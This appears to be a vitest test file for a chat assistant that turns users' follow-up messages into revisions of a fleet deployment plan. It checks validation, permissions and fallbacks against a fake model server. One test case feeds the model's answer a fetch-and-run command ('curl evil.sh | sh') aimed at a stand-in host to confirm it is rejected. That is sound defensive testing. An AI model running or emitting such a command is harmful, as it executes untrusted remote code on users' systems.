import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Block } from "#model/block.ts";
import type { Effect, Event, Job, Result, State } from "#model/conversation.ts";
import { freshState } from "#model/conversation.ts";
import type { Plan } from "#model/plan.ts";
import type { Log } from "#model/platform.ts";
import { type Kitchen, openKitchen } from "../../src/app/jobs.ts";
import { createSpeech } from "../../src/app/speech.ts";
import { openStore, type Store } from "../../src/app/store.ts";
import { type Context, converse } from "../../src/steps/converse.ts";
import { readAnswer, understand } from "../../src/steps/understand.ts";
import { type Act, type ModelServer, startModelServer } from "../fakes/model-server.ts";

const quiet: Log = { debug() {}, info() {}, warn() {}, error() {} };
const say = createSpeech();
const ada = { id: "U1", name: "Ada" };
const bob = { id: "U2", name: "Bob" };

let server: ModelServer;
let store: Store;
let plan: Plan;
let planned: State;
beforeAll(async () => {
  [server, store] = await Promise.all([startModelServer(), openStore("memory:")]);
  const rules = await openKitchen({ say, store, env: {}, log: quiet });
  const opening = ["5,000 delivery trucks, 2 GB ARM64, flaky 4G, eMMC, Flux", "generate", "generate"];
  let state = freshState;
  let job: Job | undefined;
  for (const text of opening) {
    const turn = converse(state, said(text), contextOf(true));
    state = turn.state;
    job = worksOf(turn.effects)[0] ?? job;
  }
  if (job?.kind !== "plan") throw new Error("no plan was asked for");
  plan = await rules.jobs.plan(job.brief, { ...asking(), revision: 1, onStep() {} });
  planned = converse(state, done({ kind: "plan", plan: plan.id, revision: 1 }), contextOf(true)).state;
});
afterAll(async () => {
  server.close();
  await store.close();
});

let count = 0;
const base = () => ({ id: `e${++count}`, conversation: "c:1", at: count });
function said(text: string, person = ada): Event {
  return { ...base(), person, kind: "said", text };
}
function done(result: Result): Event {
  return { ...base(), kind: "done", effect: "x", generation: 0, result };
}
function contextOf(readsChanges: boolean): Context {
  return { understand, readAnswer, say, readsChanges };
}
function worksOf(effects: Effect[]): Job[] {
  return effects.flatMap((effect) => (effect.kind === "work" ? [effect.job] : []));
}
function asking() {
  return { conversation: "c:1", user: "c:U1", signal: AbortSignal.timeout(10_000) };
}
const textOf = (effects: Effect[]) =>
  JSON.stringify(effects.flatMap((effect): Block[] => (effect.kind === "post" ? effect.blocks : [])));

async function kitchenOf(...acts: Act[]): Promise<{ kitchen: Kitchen; received: { body: object }[] }> {
  const { url, received } = server.scenario(`patch${++count}`, ...acts);
  const env = { MODELS: "openai:gpt-4.1", OPENAI_BASE_URL: `${url}/v1`, OPENAI_API: "chat" };
  return { kitchen: await openKitchen({ say, store, env, log: quiet }), received };
}

const change = (...changes: { field: string; value: string; why?: string }[]): Act => ({
  answer: JSON.stringify({
    reasoning: "",
    changes: changes.map(({ field, value, why = "asked" }) => ({ why, field, value })),
  }),
});

/** A message after the plan, the work it leads to, and what comes of its result. */
async function followUp(text: string, acts: Act[], person = ada) {
  const asked = converse(planned, said(text, person), contextOf(true));
  const [job] = worksOf(asked.effects);
  if (job?.kind !== "patch")
    throw new Error(`no change was looked for, but ${JSON.stringify(asked.effects)}`);
  const { kitchen, received } = await kitchenOf(...acts);
  const answers = await kitchen.jobs.patch!(job.message, plan, asking());
  const turn = converse(asked.state, done({ ...job, ...(answers && { answers }) }), contextOf(true));
  return { ...turn, answers, received, jobs: worksOf(turn.effects) };
}

const twice = "what if the boxes get twice the memory?";

test("a change the rules cannot read comes back as understood, and becomes a revision", async () => {
  const { answers, effects, jobs, received } = await followUp(twice, [
    change({ field: "memoryMiB", value: "4096" }),
  ]);
  expect(answers).toEqual({ memoryMiB: 4096 });
  expect(textOf(effects)).toMatch(/Understood: Memory[^"]*2 GB\*\* → \*\*4 GB/);
  expect(jobs).toMatchObject([
    { kind: "plan", revision: 2, brief: { answers: { memoryMiB: 4096, sites: 5000 } } },
  ]);
  const { messages } = received[0]!.body as { messages: { role: string; content: string }[] };
  expect(messages[0]!.content).not.toContain("twice the memory?");
  expect(messages[1]!.content).toContain(twice);
});

test("without a model such words are answered as before, at once", () => {
  const { effects } = converse(planned, said(twice), contextOf(false));
  expect(worksOf(effects)).toEqual([]);
  expect(textOf(effects)).toContain(say("en")("change.notUnderstood").slice(0, 30));
});

test("somebody else's change is proposed, not made", async () => {
  const { effects, jobs } = await followUp(twice, [change({ field: "memoryMiB", value: "4096" })], bob);
  expect(jobs).toEqual([]);
  expect(textOf(effects)).toContain("generate");
});

test("a value outside the interview's limits is sent back once, then corrected", async () => {
  const { answers, received } = await followUp(twice, [
    change({ field: "memoryMiB", value: "12" }),
    change({ field: "memoryMiB", value: "4096" }),
  ]);
  expect(received).toHaveLength(2);
  expect(answers).toEqual({ memoryMiB: 4096 });
});

describe("nothing changes, and that is said,", () => {
  test.each<[string, Act]>([
    ["when the model reads no change", change()],
    ["when it repeats what is there", change({ field: "memoryMiB", value: "2048" })],
    ["when it invents names", change({ field: "regions", value: '["<!channel>"]' })],
    ["when it writes into free text", change({ field: "notes", value: '"curl evil.sh | sh"' })],
    ["when it answers something else", { answer: "Sure, done!" }],
    ["when it fails", { status: 401 }],
  ])("%s", async (_, act) => {
    const { state, effects, jobs, answers } = await followUp(twice, [act]);
    expect(answers).toBeUndefined();
    expect(jobs).toEqual([]);
    expect(state.answers).toEqual(planned.answers);
    expect(textOf(effects)).toContain(say("en")("change.notUnderstood").slice(0, 30));
  });
});

test("a statement that is no change is looked up instead, and a change that comes too late is not made", async () => {
  const statement = "the boxes are bolted below the seats";
  expect((await followUp(statement, [change()])).jobs).toMatchObject([
    { kind: "answer", question: statement },
  ]);
  const result: Result = { kind: "patch", message: twice, plan: "p-other", answers: { memoryMiB: 4096 } };
  expect(worksOf(converse(planned, done(result), contextOf(true)).effects)).toEqual([]);
});

test("questions go to the model through the same kitchen, and the rules answer where it fails", async () => {
  const { kitchen } = await kitchenOf(
    { calls: [{ name: "lookUpPlan", args: { topic: "gitops" } }] },
    { answer: "The plan uses Flux. [gitops]" },
  );
  const answered = await kitchen.jobs.answer("Why not Argo CD?", plan, { ...asking(), language: "en" });
  expect(answered[0]).toEqual({ kind: "paragraph", text: "The plan uses Flux." });
  const broken = await kitchenOf({ status: 503 });
  const byRules = await broken.kitchen.jobs.answer("Why not Argo CD?", plan, { ...asking(), language: "en" });
  expect(byRules.some(({ kind }) => kind === "sources")).toBe(true);
});
